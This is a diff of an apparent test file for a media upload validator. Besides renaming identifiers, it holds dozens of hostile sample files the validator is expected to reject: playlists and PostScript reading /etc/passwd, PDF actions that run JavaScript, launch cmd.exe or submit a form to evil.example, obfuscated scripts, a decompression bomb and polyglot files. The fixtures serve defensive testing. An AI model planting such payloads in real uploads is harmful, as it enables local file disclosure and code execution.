@@ -4,22 +4,22 @@ import { join } from 'node:path'
 import { deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { MediaKind } from '../../domain/desk/uploads/rules.ts'
+import type { MediaKind } from '../../domain/admin/uploads/rules.ts'
+import { adminCall, staffOf, type TestStaff } from '../support/admin.ts'
 import { startTestApp, type TestApp } from '../support/app.ts'
-import { deskCall, staffOf, type TestStaff } from '../support/desk.ts'
 import { recordFigure, recordPlanted } from '../support/figures.ts'
-import { drawFilm } from '../support/films.ts'
 import { uploadWhole } from '../support/tus.ts'
+import { drawVideo } from '../support/videos.ts'
 import { countRows, pdf, png, zip } from './hostile-files.ts'
 
 let app: TestApp
 let author: TestStaff
-let film: Buffer
+let video: Buffer
 let jpeg: Buffer
 beforeAll(async () => {
   app = await startTestApp()
   author = await staffOf(app, 'author')
-  film = await readFile(new URL('../../content/videos/files/eco-route.240.mp4', import.meta.url))
+  video = await readFile(new URL('../../content/videos/files/eco-route.240.mp4', import.meta.url))
   jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } })
     .jpeg()
     .toBuffer()
@@ -72,16 +72,16 @@ const foreign: [string, () => Buffer | Promise<Buffer>][] = [
   ['one byte', () => text('%')],
   ['zeros', () => Buffer.alloc(4096)],
   ['a playlist that names files of the server', () => text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')],
-  ['a list of films to join', () => text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
+  ['a list of videos to join', () => text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
   ['a GIF', raster('gif')],
   ['a TIFF', raster('tiff')],
   ['PostScript', () => text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
   ['a MATLAB or EPS picture', () => text('\xc5\xd0\xd3\xc6 and more')],
 ]
 const notOf = {
-  video: 'desk_upload_not_film',
-  document: 'desk_upload_not_document',
-  image: 'desk_upload_not_picture',
+  video: 'admin_upload_not_video',
+  document: 'admin_upload_not_document',
+  image: 'admin_upload_not_picture',
 } as const
 const kinds: MediaKind[] = ['video', 'document', 'image']
 
@@ -89,63 +89,68 @@ const wrongKind: Case[] = [
   ...foreign.flatMap(([name, make]) =>
     kinds.map((kind): Case => [`${name} as ${kind}`, kind, make, notOf[kind]]),
   ),
-  ['an MP4 as document', 'document', () => film, notOf.document],
-  ['an MP4 as image', 'image', () => film, notOf.image],
+  ['an MP4 as document', 'document', () => video, notOf.document],
+  ['an MP4 as image', 'image', () => video, notOf.image],
   ['a JPEG as video', 'video', () => jpeg, notOf.video],
   ['a JPEG as document', 'document', () => jpeg, notOf.document],
   ['a PDF as video', 'video', () => pdf(), notOf.video],
   ['a PDF as image', 'image', () => pdf(), notOf.image],
 ]
 
-const films: Case[] = [
-  ['only the head of an MP4', 'video', () => film.subarray(0, 32), 'desk_upload_film_broken'],
+const videos: Case[] = [
+  ['only the head of an MP4', 'video', () => video.subarray(0, 32), 'admin_upload_video_broken'],
   [
-    'only the head of a Matroska film',
+    'only the head of a Matroska video',
     'video',
     () => text('\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81'),
-    'desk_upload_film_broken',
+    'admin_upload_video_broken',
   ],
-  ['only the head of an AVI', 'video', () => text('RIFF\x10\x00\x00\x00AVI LIST'), 'desk_upload_film_broken'],
+  [
+    'only the head of an AVI',
+    'video',
+    () => text('RIFF\x10\x00\x00\x00AVI LIST'),
+    'admin_upload_video_broken',
+  ],
   [
     'a transport stream of nothing',
     'video',
     () => Buffer.concat(Array.from({ length: 40 }, () => Buffer.alloc(188, 'G\x1f\xff\x10', 'latin1'))),
-    'desk_upload_film_broken|desk_upload_film_no_picture',
+    'admin_upload_video_broken|admin_upload_video_no_picture',
   ],
   [
-    'a playlist behind the head of a Matroska film',
+    'a playlist behind the head of a Matroska video',
     'video',
     () => text('\x1a\x45\xdf\xa3#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'),
-    'desk_upload_film_broken',
+    'admin_upload_video_broken',
   ],
   [
     'sound alone',
     'video',
-    () => drawFilm({ hasSound: true, seconds: 2, options: ['-map', '1:a', '-c:a', 'aac'] }),
-    'desk_upload_film_no_picture',
+    () => drawVideo({ hasSound: true, seconds: 2, options: ['-map', '1:a', '-c:a', 'aac'] }),
+    'admin_upload_video_no_picture',
   ],
   [
     'an MP4 without its second half',
     'video',
-    () => cut(film, 0.5),
-    'desk_upload_film_broken|desk_upload_cut',
+    () => cut(video, 0.5),
+    'admin_upload_video_broken|admin_upload_cut',
   ],
   [
-    'an MP4 whose films are zeros',
+    'an MP4 whose videos are zeros',
     'video',
     () => {
-      const one = Buffer.from(film)
+      const one = Buffer.from(video)
       return one.fill(0, Math.floor(one.length / 2))
     },
-    'desk_upload_film_broken|desk_upload_cut',
+    'admin_upload_video_broken|admin_upload_cut',
   ],
   [
-    'a HEIF picture with the name of a film',
+    'a HEIF picture with the name of a video',
     'video',
-    () => Buffer.concat([film.subarray(0, 8), text('heic'), film.subarray(12)]),
+    () => Buffer.concat([video.subarray(0, 8), text('heic'), video.subarray(12)]),
     notOf.video,
   ],
-  ['an MP4 behind a page', 'video', () => Buffer.concat([text(script), film]), notOf.video],
+  ['an MP4 behind a page', 'video', () => Buffer.concat([text(script), video]), notOf.video],
 ]
 
 const action = (dictionary: string) => pdf({ catalog: `/OpenAction << ${dictionary} >>` })
@@ -156,62 +161,62 @@ const documents: Case[] = [
     'a script',
     'document',
     () => action('/S /JavaScript /JS (app.alert\\(1\\))'),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a script whose name is written in numbers',
     'document',
     () => action('/S /J#61v#61Scr#69pt /JS (1)'),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
-  ['a program to start', 'document', () => action('/S /Launch /F (cmd.exe)'), 'desk_upload_document_active'],
+  ['a program to start', 'document', () => action('/S /Launch /F (cmd.exe)'), 'admin_upload_document_active'],
   [
     'a form that sends',
     'document',
     () => action('/S /SubmitForm /F (http://evil.example)'),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'another file inside',
     'document',
     () => pdf({ catalog: '/Names << /EmbeddedFiles << >> >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'another file inside, in numbers',
     'document',
     () => pdf({ catalog: '/Names << /Embedded#46iles << >> >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a form of XML',
     'document',
     () => pdf({ catalog: '/AcroForm << /XFA [] >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a moving picture with a script',
     'document',
     () => pdf({ catalog: '/RichMedia << >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a script in a packed list of objects',
     'document',
     () => pdf({ stream: '/Type /ObjStm /N 1 /First 4', packed: '9 0 << /S /JavaScript /JS (1) >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a script in a packed stream that says it is a picture',
     'document',
     () => pdf({ stream: '/Subtype /Image', packed: '9 0 << /S /Java#53cript /JS (1) >>' }),
-    'desk_upload_document_active',
+    'admin_upload_document_active',
   ],
   [
     'a stream that unpacks to 200 MB',
     'document',
     () => pdf({ stream: '/Length 9', packedBytes: deflateSync(Buffer.alloc(200 * 1024 * 1024)) }),
-    'desk_upload_document_broken',
+    'admin_upload_document_broken',
   ],
   [
     'a script that is packed twice',
@@ -222,7 +227,7 @@ const documents: Case[] = [
         filter: '[/FlateDecode /Flate#44ecode]',
         packedBytes: deflateSync(deflateSync(hidden)),
       }),
-    'desk_upload_document_broken',
+    'admin_upload_document_broken',
   ],
   [
     'a script that is packed as digits',
@@ -233,86 +238,86 @@ const documents: Case[] = [
         filter: '%\n/ASCIIHexDecode',
         packedBytes: Buffer.from(Buffer.from(hidden).toString('hex')),
       }),
-    'desk_upload_document_broken',
+    'admin_upload_document_broken',
   ],
   [
     'a script whose letters are told by the ones before',
     'document',
     () => pdf({ stream: `/Note (1 0 obj <<) ${objects} /DecodeParms << /Predictor 12 >>`, packed: 'x' }),
-    'desk_upload_document_broken',
+    'admin_upload_document_broken',
   ],
   [
     'a script whose packing is told elsewhere',
     'document',
     () => pdf({ stream: objects, filter: '9 0 R', packed: 'x' }),
-    'desk_upload_document_broken',
+    'admin_upload_document_broken',
   ],
-  ['a password', 'document', () => pdf({ trailer: '/Encrypt 9 0 R' }), 'desk_upload_document_locked'],
+  ['a password', 'document', () => pdf({ trailer: '/Encrypt 9 0 R' }), 'admin_upload_document_locked'],
   [
     'an archive behind its end',
     'document',
     () => Buffer.concat([pdf(), zip('a.html', script)]),
-    'desk_upload_document_mixed',
+    'admin_upload_document_mixed',
   ],
   [
     'an archive behind its end that hides the end in a remark',
     'document',
     () => Buffer.concat([pdf(), zip('a.html', script, 'startxref\n9\n%%EOF\n')]),
-    'desk_upload_document_mixed',
+    'admin_upload_document_mixed',
   ],
   [
     'a page behind its end',
     'document',
     () => Buffer.concat([pdf(), text(script)]),
-    'desk_upload_document_mixed',
+    'admin_upload_document_mixed',
   ],
   ['a page before its head', 'document', () => Buffer.concat([text(script), pdf()]), notOf.document],
-  ['no end', 'document', () => cut(pdf(), 0.7), 'desk_upload_cut'],
-  ['no page', 'document', () => text('%PDF-1.7\nstartxref\n9\n%%EOF'), 'desk_upload_document_broken'],
-  ['no index', 'document', () => text('%PDF-1.7\n<< /Type /Page >>\n%%EOF'), 'desk_upload_document_broken'],
+  ['no end', 'document', () => cut(pdf(), 0.7), 'admin_upload_cut'],
+  ['no page', 'document', () => text('%PDF-1.7\nstartxref\n9\n%%EOF'), 'admin_upload_document_broken'],
+  ['no index', 'document', () => text('%PDF-1.7\n<< /Type /Page >>\n%%EOF'), 'admin_upload_document_broken'],
 ]
 
 const pictures: Case[] = [
-  ['a PNG of 40,000 × 40,000', 'image', () => png(40_000, 40_000), 'desk_upload_picture_huge'],
+  ['a PNG of 40,000 × 40,000', 'image', () => png(40_000, 40_000), 'admin_upload_picture_huge'],
   [
     'a PNG of 2,000,000,000 × 1',
     'image',
     () => png(2_000_000_000, 1),
-    'desk_upload_picture_huge|desk_upload_picture_broken',
+    'admin_upload_picture_huge|admin_upload_picture_broken',
   ],
   [
     'a PNG one pixel high and very wide',
     'image',
     () => png(40_000, 1),
-    'desk_upload_picture_huge|desk_upload_picture_broken',
+    'admin_upload_picture_huge|admin_upload_picture_broken',
   ],
-  ['a PNG of no width', 'image', () => png(0, 10), 'desk_upload_picture_broken'],
-  ['half a JPEG', 'image', () => cut(jpeg, 0.4), 'desk_upload_picture_broken'],
-  ['only the head of a JPEG', 'image', () => text('\xff\xd8\xff\xe0'), 'desk_upload_picture_broken'],
-  ['only the head of a PNG', 'image', () => text('\x89PNG\r\n\x1a\n'), 'desk_upload_picture_broken'],
+  ['a PNG of no width', 'image', () => png(0, 10), 'admin_upload_picture_broken'],
+  ['half a JPEG', 'image', () => cut(jpeg, 0.4), 'admin_upload_picture_broken'],
+  ['only the head of a JPEG', 'image', () => text('\xff\xd8\xff\xe0'), 'admin_upload_picture_broken'],
+  ['only the head of a PNG', 'image', () => text('\x89PNG\r\n\x1a\n'), 'admin_upload_picture_broken'],
   [
     'only the head of a WebP',
     'image',
     () => text('RIFF\x10\x00\x00\x00WEBPVP8 '),
-    'desk_upload_picture_broken',
+    'admin_upload_picture_broken',
   ],
   [
     'only the head of an AVIF',
     'image',
     () => text('\x00\x00\x00\x18ftypavif\x00\x00\x00\x00'),
-    'desk_upload_picture_broken',
+    'admin_upload_picture_broken',
   ],
   [
     'an SVG behind the head of a PNG',
     'image',
     () => Buffer.concat([text('\x89PNG\r\n\x1a\n'), text(svg)]),
-    'desk_upload_picture_broken',
+    'admin_upload_picture_broken',
   ],
   ['an SVG behind a blank', 'image', () => text(` ${svg}`), notOf.image],
 ]
 
 describe('a file that is not what it should be', () => {
-  const cases = [...wrongKind, ...films, ...documents, ...pictures]
+  const cases = [...wrongKind, ...videos, ...documents, ...pictures]
 
   it('is made in more than a hundred ways', () => {
     expect(cases.length).toBeGreaterThan(85)
@@ -328,7 +333,7 @@ describe('a file that is not what it should be', () => {
     expect(reason.split('|')).toContain(upload.reason)
     expect(await stored()).toEqual(before)
     expect(await leftBytes()).not.toContain(upload.id)
-    await deskCall(app, 'dropUpload', { id: upload.id }, { cookie: author.cookie })
+    await adminCall(app, 'dropUpload', { id: upload.id }, { cookie: author.cookie })
   })
 })
 
@@ -355,7 +360,7 @@ describe('a file that is two things at once', () => {
   })
 
   it('an MP4 with an archive behind it and a place inside is copied without either', async () => {
-    const upload = await uploadWhole(app, author, Buffer.concat([film, zip('a.html', script)]), {
+    const upload = await uploadWhole(app, author, Buffer.concat([video, zip('a.html', script)]), {
       kind: 'video',
       name: 'lesson.pdf',
     })
